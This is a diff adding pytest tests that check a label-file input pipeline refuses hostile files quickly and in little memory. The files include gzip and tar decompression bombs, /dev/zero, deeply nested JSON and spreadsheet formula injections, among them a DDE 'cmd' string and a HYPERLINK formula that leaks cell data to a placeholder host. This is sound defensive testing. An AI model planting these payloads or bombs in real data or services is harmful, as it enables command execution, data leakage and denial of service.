@@ -1,0 +1,176 @@
+"""Label files made to do harm: refused in one line, in little memory."""
+
+import gzip
+import resource
+import tarfile
+import tracemalloc
+
+import pytest
+
+from input_pipeline.files import archives
+from input_pipeline.labels import edge_files, hierarchy, text_lines, vocabulary
+from input_pipeline.labels.vocabulary import Vocabulary
+from input_pipeline.publishers.open_images import files as open_images
+from input_pipeline.sources import table
+
+GIGABYTE = 10**9
+MIB = 1 << 20
+
+
+def bomb(path, block: bytes) -> str:
+  """A gzip file of a gigabyte of `block`, made in no time.
+
+  Its members are copies of one: gzip files joined are a gzip file.
+  """
+  member = gzip.compress(block * (16 * MIB // len(block)))
+  path.write_bytes(member * (GIGABYTE // (16 * MIB) + 1))
+  return str(path)
+
+
+def peak(function, *args) -> tuple[str, int]:
+  """(message of the ValueError, most bytes held meanwhile)."""
+  tracemalloc.start()
+  try:
+    with pytest.raises(ValueError) as raised:
+      function(*args)
+    return str(raised.value), tracemalloc.get_traced_memory()[1]
+  finally:
+    tracemalloc.stop()
+
+
+@pytest.mark.parametrize(
+  ('block', 'message'),
+  [
+    (bytes(1024), ':1: longer than 1,048,576 characters'),
+    (b'apple\tfruit\n', 'above 200:1: refused'),
+  ],
+)
+def test_a_gigabyte_of_gzip_is_refused_in_little_memory(
+  tmp_path, block, message
+):
+  path = bomb(tmp_path / 'edges.tsv.gz', block)
+  said, most = peak(edge_files.read, path)
+  assert said.startswith(path) and message in said
+  assert most < 40 * MIB
+
+
+def test_a_table_of_open_images_without_line_ends_too(tmp_path):
+  path = bomb(tmp_path / 'images.csv.gz', bytes(1024))
+  said, most = peak(list, open_images._rotations(path))
+  assert ':1: longer than 1,048,576 characters' in said
+  assert most < 40 * MIB
+
+
+def test_a_file_that_never_ends_is_refused():
+  said, most = peak(text_lines.read, '/dev/zero')
+  assert said == '/dev/zero:1: longer than 1,048,576 characters'
+  assert most < 40 * MIB
+
+
+def test_a_compressed_tar_that_is_a_bomb_is_not_unpacked(tmp_path):
+  path = bomb(tmp_path / 'images.tar.gz', bytes(1024))
+  scratch = tmp_path / 'scratch'
+  with pytest.raises(ValueError, match=r'images\.tar\.gz: .*above 200:1'):
+    archives.open_files(path, scratch=str(scratch))
+  assert not list(scratch.glob('*.tar*[!k]'))
+
+
+NAMES = ('a', 'b', 'c')
+FORMULA = '=HYPERLINK("http://x/?"&A1)'
+# kind -> (reader, file name, text, message behind 'path')
+FILES = {
+  'cycle': ('edges', 'e.tsv', 'a\tb\nb\tc\nc\ta\n', ':1: cycle of 3 edges'),
+  'depth of a million in JSON': (
+    'edges',
+    'e.json',
+    '{"is_a":\n' + ('[' * 1000 + '\n') * 1000,
+    ': JSON nested too deeply at line 1001',
+  ),
+  'duplicate id': (
+    'names',
+    'v.jsonl',
+    '{"id": 0, "name": "a"}\n{"id": 0, "name": "b"}\n',
+    ':2: id 0',
+  ),
+  'duplicate name': (
+    'names', 'v.jsonl', '{"name": "a"}\n{"name": "a"}\n', ":2: ",
+  ),
+  'duplicate edge': ('edges', 'e.tsv', 'a\tb\na\tb\n', ":2: edge 'a' -> 'b'"),
+  'NaN in JSON': (
+    'edges',
+    'e.json',
+    '{"note": "NaN",\n "is_a": [["a", NaN]]}',
+    ': NaN is not a JSON number at line 2',
+  ),
+  'NaN of a weight': (
+    'names',
+    'v.jsonl',
+    '{"name": "a"}\n{"name": "b", "popularity_weight": NaN}\n',
+    ':2: NaN is not a JSON number',
+  ),
+  'surrogate': (
+    'edges', 'e.json', '{"is_a": [["a", "b"],\n["\\udfff", "a"]]}', ':2: ',
+  ),
+  'bytes of a surrogate': ('names', 'v.txt', b'a\n\xed\xbf\xbf\n', ':2: not U'),
+  'line separator': ('names', 'v.txt', 'a\nb\u2028c\n', ':2: character'),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize('kind', FILES)
+def test_each_is_refused_with_its_line(tmp_path, kind):
+  reader, name, text, message = FILES[kind]
+  path = tmp_path / name
+  path.write_bytes(text if isinstance(text, bytes) else text.encode())
+  with pytest.raises(ValueError) as raised:
+    if reader == 'edges':
+      hierarchy.load(str(path), Vocabulary(NAMES))
+    else:
+      vocabulary.load(str(path))
+  said = str(raised.value)
+  assert said.startswith(f'{path}{message}')
+  assert '\n' not in said and len(said) < 500
+
+
+@pytest.mark.nightly
+def test_a_chain_of_a_million_nodes_is_one_message(tmp_path):
+  path = tmp_path / 'chain.tsv'
+  path.write_text('\n'.join(f'{i}\t{i - 1}' for i in range(1, 10**6)))
+  message = r'chain\.tsv:\d+: .*allowed: '
+  with pytest.raises(ValueError, match=message) as raised:
+    hierarchy.load(str(path), Vocabulary(('5', '6')), unlisted='traverse')
+  assert len(str(raised.value)) < 500
+
+
+@pytest.mark.parametrize(
+  'name', ['=1+2', '=-2+3', '@SUM(1)', "+cmd|' /C x'!A0", FORMULA]
+)
+def test_formulas_of_spreadsheets_are_refused_with_their_line(tmp_path, name):
+  (tmp_path / 't.tsv').write_text(f'path\tlabels\nx.jpg\t{name}\n')
+  (tmp_path / 'v.txt').write_text(f'a\n{name}\n')
+  with pytest.raises(ValueError, match=r't\.tsv:2: the name .* is a formula'):
+    table.Source(path=str(tmp_path / 't.tsv'))
+  with pytest.raises(ValueError, match=r'v\.txt:2: the name .* is a formula'):
+    vocabulary.load(str(tmp_path / 'v.txt'))
+
+
+def test_signs_are_names(tmp_path):
+  names = ('=', '-', '+', '@', '=>', '-1', '@home', '+ (plus)', '- none')
+  (tmp_path / 'v.txt').write_text('\n'.join(names))
+  assert vocabulary.load(str(tmp_path / 'v.txt')).names == names
+
+
+@pytest.mark.nightly
+def test_a_tar_of_a_million_members_opens_in_little_memory(tmp_path):
+  """A member costs its name and some tens of bytes, whatever it is called."""
+  path = tmp_path / 'many.tar'
+  header = tarfile.TarInfo('x')
+  with path.open('wb') as file:
+    for i in range(10**6):
+      header.name = f'{i:07}.jpg'
+      file.write(header.tobuf(tarfile.USTAR_FORMAT))
+    file.write(bytes(1024))
+  before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+  files = archives.open_files(str(path))
+  grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
+  assert len(files) == 10**6
+  assert grown < 400 << 10  # KiB
